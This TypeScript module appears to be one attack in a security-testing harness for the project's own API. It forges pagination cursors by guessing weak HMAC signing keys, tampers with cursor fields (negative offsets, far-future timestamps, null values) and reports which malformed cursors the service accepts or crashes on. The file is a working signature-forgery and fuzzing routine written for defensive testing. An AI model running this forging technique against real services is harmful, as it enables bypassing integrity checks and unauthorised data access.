import { createHmac, hash } from 'node:crypto';
import { ADMIN, type Attack, type AttackContext, DISPUTES, readMember } from './attack.ts';
import { type AttackResponse, formatSummary } from './http.ts';

/*
 * A cursor begins with a signature of 22 characters: truncated base64url of a hash of the user's key and the rest, which is the base64url
 * of [instant, position, fingerprint] as JSON and 8 characters of the offset. Up to version 0.2, and still accepted: of an HMAC-SHA256 of
 * [tenant, user, text] as JSON, where `text` is the base64url of [instant, position, offset, fingerprint]. That form can have any
 * contents. The attacker signs it with guessed keys, because the seed of the fleets is public.
 */

const GUESSED_KEYS = ['cursor 1', 'cursor 0', 'cursor'];
const SIGNATURE_LENGTH = 22;
const OFFSET_LENGTH = 8;
const LISTS = [
  { path: '/v1/transactions?limit=2', key: ADMIN },
  { path: '/v1/disputes?limit=2', key: DISPUTES },
];
const DAY_MS = 86_400_000;
const FLAWS = { 200: 'accepted', 500: 'answered 500', 0: 'not answered' };

type Fields = readonly unknown[];

/** Changes of the fields of a cursor. Those that cause most work come last. */
const CHANGES: readonly (readonly [name: string, change: (fields: Fields) => unknown])[] = [
  ...[-1, -1e15, Number.MAX_SAFE_INTEGER, 0.5, '2', null].map((value) => replaceField('offset', 2, value)),
  ...[-1, Number.MAX_SAFE_INTEGER, 0.5, '0', null].map((value) => replaceField('position', 1, value)),
  ...[0, -1, 9e15, '0', null].map((value) => replaceField('instant', 0, value)),
  ['no fingerprint', (fields) => fields.slice(0, 3)],
  ['an object', (fields) => ({ ...fields })],
  ['null', () => null],
  ['a day later', moveInstant(1)],
  ['20 years later', moveInstant(20 * 365)],
  ['60 years later', moveInstant(60 * 365)],
];

export const forgedCursors: Attack = {
  id: 'a',
  title: 'forged cursors',
  run: async (context) => {
    const forgers = await Promise.all(LISTS.map((list) => createForger(context, list)));
    const outcomes: { readonly path: string; readonly name: string; readonly answer: AttackResponse }[] = [];
    for (const [name, change] of CHANGES) {
      for (const { path, forge } of forgers)
        for (const answer of await forge(change)) outcomes.push({ path, name, answer });
    }
    for (const [path, own] of Map.groupBy(outcomes, (outcome) => outcome.path)) {
      context.note(`${path}: ${formatSummary(own.map(({ answer }) => answer))}`);
      for (const [status, flaw] of Object.entries(FLAWS)) {
        const names = own.filter(({ answer }) => answer.status === Number(status)).map(({ name }) => name);
        if (names.length > 0)
          context.weakness(`${path}: ${names.length} of ${own.length} ${flaw}: ${names.join('; ')}`);
      }
    }
  },
};

/** Searches the key that signs the cursors of a list. If none is found, tries each forged cursor with all guesses. */
async function createForger({ send, weakness }: AttackContext, { path, key }: (typeof LISTS)[number]) {
  const cursor = String(readMember(await send({ path, key }), 'page', 'next_cursor'));
  const portal = await send({ path: '/v1/portal', key });
  const owner = [readMember(portal, 'account', 'account_id'), readMember(portal, 'principal', 'user_id')];
  const signForUser = (text: string, secret: string): string =>
    createHmac('sha256', secret)
      .update(JSON.stringify([...owner, text]))
      .digest('base64url');
  const sign = (text: string, secret: string): string => signForUser(text, secret).slice(0, SIGNATURE_LENGTH);

  const place = cursor.slice(SIGNATURE_LENGTH);
  const signature = cursor.slice(0, SIGNATURE_LENGTH);
  const known = GUESSED_KEYS.find((secret) =>
    hash('sha256', signForUser('', secret) + place, 'base64url').startsWith(signature),
  );
  if (known !== undefined) weakness(`${path}: cursors are signed with the guessable key "${known}"`);
  const json = Buffer.from(place.slice(0, -OFFSET_LENGTH), 'base64url').toString('utf8');
  const [instant, position, fingerprint] = Array.from({ length: 3 }, (_, n) => readMember(json, n));
  const fields =
    fingerprint === undefined ? [Date.UTC(2026, 10, 2, 15), 0, 2, 'AAAAAAAAAAAA'] : [instant, position, 2, fingerprint];
  const forge = async (change: (fields: Fields) => unknown): Promise<readonly AttackResponse[]> => {
    const answers: AttackResponse[] = [];
    for (const secret of known === undefined ? GUESSED_KEYS : [known]) {
      const forged = Buffer.from(JSON.stringify(change(fields))).toString('base64url');
      answers.push(await send({ path: `${path}&cursor=${sign(forged, secret)}${forged}`, key, timeoutMs: 6000 }));
    }
    return answers;
  };
  return { path, forge };
}

function replaceField(name: string, index: number, value: unknown): (typeof CHANGES)[number] {
  return [`${name} ${JSON.stringify(value)}`, (fields) => fields.with(index, value)];
}

function moveInstant(days: number): (fields: Fields) => Fields {
  return (fields) => fields.with(0, Number(fields[0]) + days * DAY_MS);
}
